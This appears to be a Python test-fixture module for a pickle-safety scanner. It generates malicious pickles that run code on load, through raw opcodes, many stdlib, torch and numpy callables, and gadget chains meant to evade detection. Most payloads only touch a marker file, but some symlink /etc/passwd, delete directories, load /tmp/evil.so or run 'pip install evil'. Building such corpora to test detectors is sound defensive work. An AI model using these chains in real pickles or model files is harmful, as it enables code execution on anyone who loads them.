"""Pickles that run code when plain unpickling reads them, through every opcode that can and many callables.

Each leaves a marker file where it is executed. `live` payloads were proven to do so by the tests themselves; the others
need a platform or a package that may be missing here.
"""

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import NamedTuple

from tests.integration.bad_input.pickle_bytes import Raw, call, glob, pickled, push, stack_global

Body = Callable[[str], Raw]


class Payload(NamedTuple):
    """Opcodes that run code and leave one value, given the marker's path."""

    name: str
    body: Body
    live: bool = True

    def stream(self, marker: Path) -> bytes:
        """A whole pickle; names with dots are looked up from protocol 4 on, names of Python 2 below 3."""
        return pickled(self.body(str(marker)), 2 if "Python 2" in self.name else 4)


def payloads() -> Iterator[Payload]:
    yield from (Payload(name, body) for name, body in _BY_FUNCTION.items())
    yield from (Payload(name, body, live=False) for name, body in _ELSEWHERE.items())
    yield from (Payload(name, body) for name, body in _BY_OPCODE.items())
    yield from (Payload(name, body) for name, body in _BY_GADGET.items())


def _touch(marker: str) -> str:
    return f"touch {marker}"


def _code(marker: str) -> str:
    return f"open({marker!r}, 'w').close()"


def _attribute(object_: bytes, *names: str) -> Raw:
    for name in names:
        object_ = call(glob("builtins.getattr"), Raw(object_), name)
    return Raw(object_)


def _imported(module: str) -> Raw:
    return call(glob("builtins.__import__"), module)


_SYSTEM = glob("os.system")

_BY_FUNCTION: dict[str, Body] = {
    "os.system": lambda m: call(_SYSTEM, _touch(m)),
    "posix.system": lambda m: call(glob("posix.system"), _touch(m)),
    "os.popen": lambda m: call(glob("builtins.list"), call(glob("os.popen"), _touch(m))),
    "os.open": lambda m: call(glob("os.open"), m, 0o101),
    "os.mkdir": lambda m: call(glob("os.mkdir"), m),
    "os.mkfifo": lambda m: call(glob("os.mkfifo"), m),
    "os.symlink": lambda m: call(glob("os.symlink"), "/etc/passwd", m),
    "os.spawnlp": lambda m: call(glob("os.spawnlp"), 0, "touch", "touch", m),
    "os.posix_spawnp": lambda m: call(glob("os.waitpid"), call(glob("os.posix_spawnp"), "touch", ["touch", m], {}), 0),
    "subprocess.call": lambda m: call(glob("subprocess.call"), ["touch", m]),
    "subprocess.run": lambda m: call(glob("subprocess.run"), ["touch", m]),
    "subprocess.Popen": lambda m: call(_attribute(call(glob("subprocess.Popen"), ["touch", m]), "wait")),
    "subprocess.check_output": lambda m: call(glob("subprocess.check_output"), ["touch", m]),
    "subprocess.getoutput": lambda m: call(glob("subprocess.getoutput"), _touch(m)),
    "builtins.eval": lambda m: call(glob("builtins.eval"), _code(m)),
    "builtins.exec": lambda m: call(glob("builtins.exec"), _code(m)),
    "builtins.open": lambda m: call(glob("builtins.open"), m, "w"),
    "io.open": lambda m: call(glob("io.open"), m, "w"),
    "_io.FileIO": lambda m: call(glob("_io.FileIO"), m, "w"),
    "codecs.open": lambda m: call(glob("codecs.open"), m, "w"),
    "__builtin__.eval of Python 2": lambda m: call(glob("__builtin__.eval"), _code(m)),
    "commands.getoutput of Python 2": lambda m: call(glob("commands.getoutput"), _touch(m)),
    "timeit.timeit": lambda m: call(glob("timeit.timeit"), _code(m), "pass", glob("time.time"), 1),
    "cProfile.run": lambda m: call(glob("cProfile.run"), _code(m)),
    "profile.run": lambda m: call(glob("profile.run"), _code(m)),
    "bdb.Bdb.run": lambda m: call(_attribute(call(glob("bdb.Bdb")), "run"), _code(m)),
    "code.InteractiveInterpreter": lambda m: call(
        _attribute(call(glob("code.InteractiveInterpreter")), "runsource"), _code(m)
    ),
    "runpy._run_code": lambda m: call(glob("runpy._run_code"), _code(m), {}),
    "pathlib.Path.touch": lambda m: call(glob("pathlib:Path.touch"), call(glob("pathlib.Path"), m)),
    "shutil.copyfile": lambda m: call(glob("shutil.copyfile"), "/etc/hostname", m),
    "sqlite3.connect": lambda m: call(_attribute(call(glob("sqlite3.connect"), m), "execute"), "create table t (x)"),
    "logging.FileHandler": lambda m: call(glob("logging.FileHandler"), m),
    "zipfile.ZipFile": lambda m: call(glob("zipfile.ZipFile"), m, "w"),
    "pickle.loads": lambda m: call(glob("pickle.loads"), pickled(call(_SYSTEM, _touch(m)))),
    "_pickle.loads": lambda m: call(glob("_pickle.loads"), pickled(call(_SYSTEM, _touch(m)))),
    "pydoc.pipepager": lambda m: call(glob("pydoc.pipepager"), "", _touch(m)),
    "subprocess.getstatusoutput": lambda m: call(glob("subprocess.getstatusoutput"), _touch(m)),
    "an unbound method": lambda m: call(
        glob("subprocess:Popen.__init__"),
        call(glob("subprocess:Popen.__new__"), glob("subprocess.Popen")),
        ["touch", m],
    ),
}

_ELSEWHERE: dict[str, Body] = {
    "nt.system": lambda m: call(glob("nt.system"), _touch(m)),
    "os.execvp": lambda m: call(glob("os.execvp"), "touch", ["touch", m]),
    "os._exit": lambda m: call(glob("os._exit"), 0),
    "os.kill": lambda m: call(glob("os.kill"), 0, 9),
    "sys.exit": lambda m: call(glob("sys.exit"), 0),
    "builtins.exit": lambda m: call(glob("builtins.exit"), 0),
    "builtins.input": lambda m: call(glob("builtins.input"), "password: "),
    "builtins.breakpoint": lambda m: call(glob("builtins.breakpoint")),
    "builtins.compile": lambda m: call(glob("builtins.compile"), _code(m), "x", "exec"),
    "builtins.globals": lambda m: call(glob("builtins.globals")),
    "ctypes.CDLL": lambda m: call(glob("ctypes.CDLL"), "/tmp/evil.so"),
    "pty.spawn": lambda m: call(glob("pty.spawn"), ["touch", m]),
    "webbrowser.open": lambda m: call(glob("webbrowser.open"), "http://127.0.0.1:9/"),
    "urllib.request.urlopen": lambda m: call(glob("urllib.request.urlopen"), "http://127.0.0.1:9/"),
    "socket.create_connection": lambda m: call(glob("socket.create_connection"), ("127.0.0.1", 9)),
    "ssl.get_server_certificate": lambda m: call(glob("ssl.get_server_certificate"), ("127.0.0.1", 9)),
    "importlib.import_module": lambda m: call(glob("importlib.import_module"), "antigravity"),
    "a module that runs when imported": lambda m: glob("antigravity.geohash"),
    "runpy.run_path": lambda m: call(glob("runpy.run_path"), "/tmp/evil.py"),
    "imp.load_source of Python 2": lambda m: call(glob("imp.load_source"), "x", "/tmp/evil.py"),
    "marshal.loads": lambda m: call(glob("marshal.loads"), b"\xe3"),
    "types.FunctionType": lambda m: call(glob("types.FunctionType"), None, {}),
    "types.CodeType": lambda m: call(glob("types.CodeType"), 0),
    "_interpreters.run_string": lambda m: call(glob("_interpreters.run_string"), 0, _code(m)),
    "_xxsubinterpreters.run_string": lambda m: call(glob("_xxsubinterpreters.run_string"), 0, _code(m)),
    "_posixsubprocess.fork_exec": lambda m: call(glob("_posixsubprocess.fork_exec"), ["touch", m]),
    "_osx_support._read_output": lambda m: call(glob("_osx_support._read_output"), _touch(m)),
    "_aix_support._read_cmd_output": lambda m: call(glob("_aix_support._read_cmd_output"), _touch(m)),
    "distutils.spawn": lambda m: call(glob("distutils.spawn.spawn"), ["touch", m]),
    "idlelib.pyshell": lambda m: call(glob("idlelib.pyshell.ModifiedInterpreter"), None),
    "lib2to3 loadgrammar": lambda m: call(glob("lib2to3.pgen2.pgen.ParserGenerator"), "/tmp/x"),
    "ensurepip": lambda m: call(glob("ensurepip._run_pip"), ["install", "evil"]),
    "venv.create": lambda m: call(glob("venv.create"), m),
    "shutil.rmtree": lambda m: call(glob("shutil.rmtree"), m),
    "os.remove": lambda m: call(glob("os.remove"), m),
    "pip": lambda m: call(glob("pip._internal.cli.main.main"), ["install", "evil"]),
    "pip.main": lambda m: call(glob("pip.main"), ["install", "evil"]),
    "setuptools": lambda m: call(glob("setuptools.sandbox.run_setup"), "/tmp/setup.py", []),
    "cloudpickle": lambda m: call(glob("cloudpickle.loads"), pickled(call(_SYSTEM, _touch(m)))),
    "cloudpickle's builder": lambda m: call(glob("cloudpickle.cloudpickle._make_function"), None, {}, "x", (), ()),
    "dill": lambda m: call(glob("dill._dill._create_function"), None, {}),
    "dill.loads": lambda m: call(glob("dill.loads"), pickled(call(_SYSTEM, _touch(m)))),
    "joblib.load": lambda m: call(glob("joblib.load"), "/tmp/evil.joblib"),
    "pandas.read_pickle": lambda m: call(glob("pandas.read_pickle"), "/tmp/evil.pkl"),
    "yaml.unsafe_load": lambda m: call(glob("yaml.unsafe_load"), "!!python/object/apply:os.system [x]"),
    "IPython": lambda m: call(glob("IPython.utils.process.system"), _touch(m)),
    "torch.load": lambda m: call(glob("torch.load"), "/tmp/evil.pth"),
    "torch.serialization.load": lambda m: call(glob("torch.serialization.load"), "/tmp/evil.pth"),
    "torch.hub.load": lambda m: call(glob("torch.hub.load"), "evil/repo", "model"),
    "torch.jit.load": lambda m: call(glob("torch.jit.load"), "/tmp/evil.pt"),
    "torch.ops.load_library": lambda m: call(glob("torch.ops.load_library"), "/tmp/evil.so"),
    "torch.classes.load_library": lambda m: call(glob("torch.classes.load_library"), "/tmp/evil.so"),
    "torch.os.system": lambda m: call(glob("torch:os.system"), _touch(m)),
    "torch's subprocess": lambda m: call(glob("torch.utils.cpp_extension:subprocess.Popen"), ["touch", m]),
    "torch's FunctionType": lambda m: call(glob("torch.fx.graph_module.FunctionType"), None, {}),
    "torch's CodeType": lambda m: call(glob("torch.fx._symbolic_trace.CodeType"), 0),
    "torch's thread pool": lambda m: call(glob("torch.multiprocessing.Pool"), 1, None, ("x",)),
    "an unknown package's os": lambda m: call(glob("transformers:os.system"), _touch(m)),
    "an unknown package's subprocess": lambda m: call(glob("accelerate.utils:subprocess.Popen"), ["touch", m]),
    "an unknown package's Popen": lambda m: call(glob("psutil.Popen"), ["touch", m]),
    "torch.serialization.os.system": lambda m: call(glob("torch.serialization:os.system"), _touch(m)),
    "torch.nn.functional's imports": lambda m: call(glob("torch.nn.functional:importlib.import_module"), "antigravity"),
    "torch.utils.cpp_extension": lambda m: call(glob("torch.utils.cpp_extension.load_inline"), "x", "int x;"),
    "torch.utils.collect_env": lambda m: call(glob("torch.utils.collect_env.run"), _touch(m)),
    "torch.fx": lambda m: call(glob("torch.fx.graph_module._forward_from_src"), _code(m), {}),
    "torch.package": lambda m: call(glob("torch.package.PackageImporter"), "/tmp/evil.pt"),
    "torch.package.PackageExporter": lambda m: call(glob("torch.package.PackageExporter"), m),
    "torch._C.PyTorchFileWriter": lambda m: call(glob("torch._C.PyTorchFileWriter"), m),
    "torch.distributed.FileStore": lambda m: call(glob("torch.distributed.FileStore"), m, 1),
    "numpy.load": lambda m: call(glob("numpy.load"), "/tmp/evil.npy", None, True),
    "numpy.os.system": lambda m: call(glob("numpy.lib._npyio_impl:os.system"), _touch(m)),
    "numpy.testing runstring of numpy 1": lambda m: call(glob("numpy.testing.utils.runstring"), _code(m), {}),
    "numpy.distutils": lambda m: call(glob("numpy.distutils.exec_command.exec_command"), _touch(m)),
    "numpy.f2py": lambda m: call(glob("numpy.f2py.compile"), "x"),
    "numpy.f2py.crackfortran": lambda m: call(glob("numpy.f2py.crackfortran.myeval"), _code(m)),
    "numpy.ctypeslib": lambda m: call(glob("numpy.ctypeslib.load_library"), "evil", "/tmp"),
    "a name with a dotted tail": lambda m: call(glob("collections:abc.sys.modules"), "x"),
    "collections' sys": lambda m: call(glob("collections:_sys.exit"), 0),
    "pathlib's os": lambda m: call(glob("pathlib:os.system"), _touch(m)),
    "a CamelCase class's method": lambda m: call(glob("pathlib:Path.write_text"), "x", "y"),
    "a CamelCase class's globals": lambda m: glob("pathlib:Path.touch.__globals__"),
    "a class's subclasses": lambda m: call(glob("builtins:object.__subclasses__")),
    "a class's constructor by its dunder": lambda m: call(glob("builtins:dict.__class__"), "x", (), {}),
}

_BY_OPCODE: dict[str, Body] = {
    "REDUCE of STACK_GLOBAL": lambda m: call(stack_global("os.system"), _touch(m)),
    "STACK_GLOBAL of memoized names": lambda m: Raw(
        push("os") + b"q\x000" + push("system") + b"q\x010" + b"h\x00h\x01\x93" + push((_touch(m),)) + b"R"
    ),
    "INST": lambda m: Raw(b"(" + push(_touch(m)) + b"ios\nsystem\n"),
    "OBJ": lambda m: Raw(b"(" + _SYSTEM + push(_touch(m)) + b"o"),
    "NEWOBJ": lambda m: Raw(_file_type() + push((m, "w")) + b"\x81"),
    "NEWOBJ that executes in the end": lambda m: call(
        glob("builtins.list"), Raw(glob("builtins.map") + push((_SYSTEM, [_touch(m)])) + b"\x81")
    ),
    "NEWOBJ_EX": lambda m: call(
        glob("builtins.list"), Raw(glob("builtins.map") + push((_SYSTEM, [_touch(m)])) + b"}\x92")
    ),
    "BUILD with __setstate__": lambda m: Raw(
        call(glob("types.SimpleNamespace")) + push({"__setstate__": _SYSTEM}) + b"b" + push(_touch(m)) + b"b"
    ),
    "APPEND to an object whose append is os.system": lambda m: Raw(
        call(glob("types.SimpleNamespace")) + push({"append": _SYSTEM}) + b"b" + push(_touch(m)) + b"a"
    ),
    "APPENDS through extend": lambda m: Raw(
        call(glob("types.SimpleNamespace"))
        + push({"extend": glob("builtins.list"), "append": _SYSTEM})
        + b"b("
        + push(call(_SYSTEM, _touch(m)))
        + b"e"
    ),
    "ADDITEMS": lambda m: Raw(
        call(glob("types.SimpleNamespace")) + push({"add": _SYSTEM}) + b"b(" + push(_touch(m)) + b"\x90"
    ),
    "LONG_BINGET of a function": lambda m: Raw(
        _SYSTEM + b"r\x00\x01\x00\x000j\x00\x01\x00\x00" + push((_touch(m),)) + b"R"
    ),
    "MEMOIZE of a function": lambda m: Raw(_SYSTEM + b"\x940h\x00" + push((_touch(m),)) + b"R"),
    "DUP": lambda m: Raw(_SYSTEM + b"2" + push((_touch(m),)) + b"R0"),
    "text opcodes of protocol 0": lambda m: Raw(_SYSTEM + b"(V" + _touch(m).encode() + b"\ntR"),
    "a string of Python 2": lambda m: Raw(_SYSTEM + b"(S'" + _touch(m).encode() + b"'\ntR"),
    "value thrown away": lambda m: Raw(call(_SYSTEM, _touch(m)) + b"0" + push({})),
    "marks thrown away": lambda m: Raw(b"(" + call(_SYSTEM, _touch(m)) + b"1" + push({})),
    "inside a frame": lambda m: Raw(
        b"\x95" + len(call(_SYSTEM, _touch(m))).to_bytes(8, "little") + call(_SYSTEM, _touch(m))
    ),
    "as a key of a dict": lambda m: Raw(b"}" + call(_SYSTEM, _touch(m)) + b"Ns"),
    "as a member of a set": lambda m: Raw(b"\x8f(" + call(_SYSTEM, _touch(m)) + b"\x90"),
    "as a state": lambda m: Raw(call(glob("argparse.Namespace")) + push({"x": call(_SYSTEM, _touch(m))}) + b"b"),
    "deep in a list": lambda m: Raw(b"](" * 50 + call(_SYSTEM, _touch(m)) + b"e" * 50),
    "beside a good value": lambda m: Raw(push({"a": 1, "b": [1.5, "x"], "c": call(_SYSTEM, _touch(m))})),
}


def _file_type() -> Raw:
    """A class made on the way, whose `__new__` opens a file."""
    body = call(glob("builtins.eval"), "lambda cls, path, mode: open(path, mode)")
    return call(glob("builtins.type"), "X", (glob("builtins.object"),), {"__new__": body})


_BY_GADGET: dict[str, Body] = {
    "getattr of an imported module": lambda m: call(_attribute(_imported("os"), "system"), _touch(m)),
    "importlib and getattr": lambda m: call(
        _attribute(call(glob("importlib.import_module"), "os"), "system"), _touch(m)
    ),
    "functools.partial": lambda m: call(call(glob("functools.partial"), _SYSTEM, _touch(m))),
    "functools.reduce": lambda m: call(glob("functools.reduce"), glob("subprocess.call"), [["touch", m], -1]),
    "operator.methodcaller": lambda m: call(call(glob("operator.methodcaller"), "system", _touch(m)), _imported("os")),
    "operator.attrgetter": lambda m: call(
        call(call(glob("operator.attrgetter"), "system"), _imported("os")), _touch(m)
    ),
    "operator.call": lambda m: call(glob("operator.call"), _SYSTEM, _touch(m)),
    "map and list": lambda m: call(glob("builtins.list"), call(glob("builtins.map"), _SYSTEM, [_touch(m)])),
    "map and bytes": lambda m: call(glob("builtins.bytes"), call(glob("builtins.map"), _SYSTEM, [_touch(m)])),
    "map and deque": lambda m: call(glob("collections.deque"), call(glob("builtins.map"), _SYSTEM, [_touch(m)])),
    "map and OrderedDict.fromkeys": lambda m: call(
        glob("collections:OrderedDict.fromkeys"), call(glob("builtins.map"), _SYSTEM, [_touch(m)])
    ),
    "filter and tuple": lambda m: call(glob("builtins.tuple"), call(glob("builtins.filter"), _SYSTEM, [_touch(m)])),
    "itertools.starmap": lambda m: call(
        glob("builtins.list"), call(glob("itertools.starmap"), _SYSTEM, [(_touch(m),)])
    ),
    "defaultdict's factory": lambda m: call(
        glob("collections:defaultdict.__missing__"),
        call(glob("collections.defaultdict"), call(glob("functools.partial"), _SYSTEM, _touch(m))),
        1,
    ),
    "pkgutil.resolve_name": lambda m: call(call(glob("pkgutil.resolve_name"), "os:system"), _touch(m)),
    "a dotted attribute": lambda m: call(glob("shutil:os.system"), _touch(m)),
    "a dotted attribute of a nested module": lambda m: call(glob("logging.config:os.system"), _touch(m)),
    "__builtins__ of a module": lambda m: call(
        call(glob("inspect:builtins.getattr"), _imported("os"), "system"), _touch(m)
    ),
    "sys.modules": lambda m: call(_attribute(call(_attribute(glob("sys.modules"), "get"), "os"), "system"), _touch(m)),
    "globals of a function": lambda m: call(
        _attribute(call(glob("operator.getitem"), _attribute(glob("shutil.copyfile"), "__globals__"), "os"), "system"),
        _touch(m),
    ),
    "type with __reduce__": lambda m: call(
        glob("builtins.type"), "X", (glob("builtins.object"),), {"x": call(_SYSTEM, _touch(m))}
    ),
    "weakref.finalize": lambda m: call(call(glob("weakref.finalize"), glob("argparse.Namespace"), _SYSTEM, _touch(m))),
    "threading.Thread": lambda m: call(
        _attribute(call(glob("threading.Thread"), None, _SYSTEM, None, (_touch(m),)), "run")
    ),
    "eval of a text put together": lambda m: call(
        glob("builtins.eval"), call(glob("builtins:str.join"), "", ["__import__('os').", f"system({_touch(m)!r})"])
    ),
    "copyreg.__newobj__": lambda m: call(
        glob("builtins.list"), call(glob("copyreg.__newobj__"), glob("builtins.map"), _SYSTEM, [_touch(m)])
    ),
    "torch._utils with another function": lambda m: call(
        glob("torch._tensor._rebuild_from_type_v2"), _SYSTEM, glob("builtins.int"), (_touch(m),), None
    ),
    "torch.storage._load_from_bytes": lambda m: call(glob("torch.storage._load_from_bytes"), _legacy_bytes(m)),
    "torch's execWrapper": lambda m: call(glob("torch.jit.unsupported_tensor_ops.execWrapper"), _code(m), {}, {}),
    "numpy's runstring": lambda m: call(glob("numpy.testing._private.utils.runstring"), _code(m), {}),
}


def _legacy_bytes(marker: str) -> bytes:
    from tests.integration.bad_input.legacy_cases import legacy

    return legacy(call(_SYSTEM, _touch(marker)))
